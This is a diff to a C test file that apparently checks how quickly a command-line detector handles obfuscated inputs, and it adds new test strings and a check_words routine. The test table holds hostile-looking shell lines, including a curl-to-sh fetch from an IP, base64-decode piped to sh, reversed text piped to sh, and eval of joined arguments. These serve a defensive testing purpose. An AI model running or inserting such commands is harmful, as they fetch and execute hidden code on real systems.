@@ -130,6 +130,15 @@ static const struct text {
 	{ "sh", "a.b.c.d.e.f.g.h" },
 	{ "sh", "http://a.b:c@d.e/%41[.]" },
 	{ "sh", "curl http://198.51.100.7/x|sh;" },
+	{ "sh", "$(which a#) `command -v b`|" },
+	{ "sh", "x=$(which a;which b#);[ $x ]||" },
+	{ "sh", "echo aB#c|grep -oP '\\w\\K[[:alpha:]]*'|rev|sh;" },
+	{ "sh", "rev<<<b#|" },
+	{ "sh", "grep -v a<<<b#|grep -F b|" },
+	{ "sh", "&a#=%41=base64(AAAAAAAAA1 " },
+	{ "sh", "a=%7Cbase64%20-d" },
+	{ "sh", "?x=%28b64decode" },
+	{ "sh", "fRoMbAsE64sTrInG(,((,$(" },
 	{ "python3", "b64decode('aWQ=');" },
 	{ "python3", "chr(105)+chr(100)+" },
 	{ "python3", "os.system('id');" },
@@ -187,6 +196,23 @@ static void check_args(struct stages *s, const char *first, const char *each)
 	}
 	check_short(s);
 	free(argv);
+}
+
+/* A shell's text with many words behind it. */
+static void check_words(struct stages *s, const char *text)
+{
+	static struct bytes argv[ARGS_MANY] = { BYTES("sh"), BYTES("-c") };
+
+	check_start("words: %s", text);
+	argv[2] = bytes_of(text);
+	for (size_t i = 3; i < ARGS_MANY; i++)
+		argv[i] = BYTES("aW");
+	for (int i = 0; i < TRIES; i++) {
+		measure(s, argv, ARGS_MANY);
+		if (is_short(s))
+			break;
+	}
+	check_short(s);
 }
 
 static void add_u16(struct str *s, size_t v)
@@ -308,6 +334,9 @@ static void run_all(struct stages *s)
 	str_fini(&room);
 	for (size_t i = 0; i < sizeof(args) / sizeof(args[0]); i++)
 		check_args(s, args[i][0], args[i][1]);
+	check_words(s, "echo \"$@\"|base64 -d|sh");
+	check_words(s, "while [ $1 ];do x=$x$1;shift;done;eval $x|rev");
+	check_words(s, "for i;do echo $*|rev|sh;done");
 	check_nested(s);
 	check_zip(s, false, 100);
 	check_zip(s, false, 500);
